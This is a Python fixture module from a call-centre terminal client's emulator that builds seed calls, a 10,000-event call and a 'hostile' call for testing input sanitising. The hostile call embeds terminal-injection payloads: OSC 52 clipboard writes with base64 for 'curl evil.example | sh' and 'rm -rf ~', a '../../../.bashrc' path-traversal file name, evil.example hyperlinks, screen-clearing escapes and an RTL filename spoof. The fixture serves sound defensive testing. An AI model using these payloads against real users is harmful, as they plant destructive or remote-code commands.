"""The calls no scenario draws: the seed examples' calls, a huge call and a hostile one.

The seed calls give CDR rows (and a trail for the recording's call) around the verbatim examples;
the huge call has 10,000 events; the hostile call's text attacks a terminal (markup, escape
sequences, controls, RTL, huge names), so the client's sanitising is tested against real bytes.
"""

from __future__ import annotations

from collections.abc import Callable

from ccc_tui.emulator.builder import CallBuilder
from ccc_tui.emulator.scenarios import inbound_start, ring_answered
from ccc_tui.emulator.seeds import SEED_RECORDING
from ccc_tui.emulator.vocabulary import (
    AGENTS,
    CENTER_NUMBERS,
    MEMBERS,
    SKILL_GROUPS,
    Agent,
    SkillGroup,
)

HUGE_EVENT_COUNT = 10_000


def _seed_recording_call(b: CallBuilder) -> None:
    """A plausible trail for the seed recording: 小芳 dials out, talks 10 s, the customer hangs up."""
    agent, group = AGENTS[0], SKILL_GROUPS[0]
    b.mode = b.contact_type = "Outbound"
    b.caller, b.callee = "80327683", "15588886666"
    b.ev("Dial", 6, "agent", status="Dialing", agent=agent, group=group)
    b.t += 6
    b.ev("Talk", 10, "agent", status="Talking", agent=agent, group=group)
    b.t += 10
    b.ev("End", 12, "agent", status="Handling", agent=agent, group=group, HangUper="customer")
    b.ev("Handle", 0, "agent", agent=agent, group=group)
    b.recordings.append(dict(SEED_RECORDING))
    b.release_agent, b.release_reason = "customer", "200-OK"


def _seed_events_call(b: CallBuilder) -> None:
    """The seed timeline's call, for CDR rows: it has no recordings (the seed gives none)."""
    agent = AGENTS[1]
    b.mode = b.contact_type = "Outbound"
    b.caller, b.callee = "80315543", "13501215646"
    b.agents[agent.name] = agent
    b.end_t = 13
    b.disposition = "NoAnswer"


def _huge_call(b: CallBuilder) -> None:
    """A call stuck overnight: the queue keeps ringing agents who never answer, 10,000 events."""
    inbound_start(b)
    b.caller, b.callee = "13900001111", CENTER_NUMBERS[3]
    group = SKILL_GROUPS[8]
    b.ev("EnterIVR", 12, "ivr")
    b.t = 12
    q0 = b.t
    queued = b.ev("EnterQueue", 0, "queue", group=group)
    members = [AGENTS[i] for i in MEMBERS[8]]
    cycles = (HUGE_EVENT_COUNT - 7) // 3
    for _ in range(cycles):
        wait = b.ri(2, 6)
        b.ev("WaitingInQueue", wait, "queue", group=group)
        b.t += wait
        agent = b.pick(members)
        ring = b.ri(2, 5)
        b.ev("Ring", ring, "agent", status="Ringing", agent=agent, group=group)
        b.t += ring
        b.ev("GiveUp", 0, "agent", agent=agent, group=group)
    agent = AGENTS[5]
    ring_answered(b, agent, group, queued, q0)
    b.talk(agent, group, 95)
    b.end(agent, group, "customer", survey=True)
    b.release_reason = "200-OK"


_OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
_LONG_GROUP = ("售后服务组-超长名称-" * 60)[:500]
_HOSTILE_AGENTS = (
    Agent("[bold red]x[/]", "markup", "293939422320399901", (0,)),
    Agent("\x1b[31mRed\x1b[0m Agent\x1b[2J", "ansi", "293939422320399902", (0,)),
    Agent("مريم\u202eevil.exe\u202c", "rtl", "293939422320399903", (0,)),
    Agent("王伟👩‍💻🎧 全角ＡＢＣ", "wide", "293939422320399904", (0,)),
)


def _hostile_call(b: CallBuilder) -> None:
    """Server text that attacks a terminal: markup, escape sequences, controls, RTL, huge names."""
    b.mode = b.contact_type = "Inbound"
    b.caller = "13800138000\x1b[8m"
    b.callee = "4008001234\r\x1b[1A"
    markup, ansi, rtl, wide = _HOSTILE_AGENTS
    long_group = SkillGroup(_LONG_GROUP, "hostile-long-group", "500 characters")
    osc_group = SkillGroup(f"Support{_OSC52}", "hostile-osc52", "clipboard write")
    ctl_group = SkillGroup("nul\x00bell\x07back\x08csi\x9b31m", "hostile-ctl", "controls")
    b.ev("EnterIVR", 8, "ivr", IvrName="[link=https://evil.example]menu[/link]")
    b.t = 8
    b.ev(
        "EnterQueue",
        20,
        "queue",
        group=long_group,
        extra={"[b]Key[/b]": "value", "\x1b[1mBoldKey": "x", "Note": "line1\nline2\r\nline3\ttab"},
    )
    b.t += 2
    b.ev("WaitingInQueue", 10, "queue", group=osc_group)
    b.t += 10
    b.ev("Ring", 8, "agent", status="Ringing\x1b[5m", agent=markup, group=ctl_group)
    b.t += 8
    b.ev("NormalEnd", 0, "queue", group=long_group)
    b.ev("Talk", 30, "agent", status="Talking", agent=markup, group=ctl_group)
    b.recordings.append(
        {
            "FileDescription": "20240101120000-[bold red]x[/]\x1b]0;pwned\x07",
            "AgentName": markup.name,
            "CalledNumber": b.callee,
            "CallingNumber": b.caller,
            "FileName": "../../../.bashrc\x1b]0;pwned\x07.wav",
            "Duration": 30,
            "ContactId": b.contact_id,
            "StartTime": b.start_ms + b.t * 1000,
            "AgentId": markup.ram_id,
            "ContactType": "Inbound",
        }
    )
    b.t += 30
    b.ev("[blink]Boom[/blink]\x1b[6n", 0, "weird\x00lane", agent=ansi, Extra=_OSC52)
    b.ev(
        "LaunchTransfer",
        0,
        "agent",
        status="Talking",
        agent=markup,
        group=ctl_group,
        TransferTo=rtl.name,
    )
    b.ev("Ring", 4, "agent", status="Ringing", agent=rtl, group=osc_group)
    b.t += 4
    b.ev("Talk", 40, "agent", status="Talking", agent=rtl, group=osc_group)
    b.record(rtl, 40)
    b.t += 40
    b.ev("CallForHelp", 5, "agent", status="Talking", agent=rtl, group=osc_group, Helper=wide.name)
    b.t += 5
    b.ev(
        "CallForHelpSuccess",
        20,
        "agent",
        status="Talking",
        agent=wide,
        group=osc_group,
        Helper=wide.name,
    )
    b.t += 20
    b.end(rtl, osc_group, "customer\x1b[31m", survey=False)
    b.ev(
        "End",
        0,
        "agent",
        status="Handling",
        agent=ansi,
        group=long_group,
        SatisfactionalResearch="满意\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    )
    b.disposition = "OneStepTransfer"
    b.release_agent = "customer\u202e"
    b.release_reason = "487-Request Terminated\x1b[2J\x1b[H"
    b.extra_data = {"Remark": "\x1b]52;c;cm0gLXJmIH4=\x07 [red]not markup[/red] \x00"}


# kind -> builder, for the calls the data set places itself
SPECIAL_CALLS: dict[str, Callable[[CallBuilder], None]] = {
    "seed_events": _seed_events_call,
    "seed_recording": _seed_recording_call,
    "huge": _huge_call,
    "hostile": _hostile_call,
}
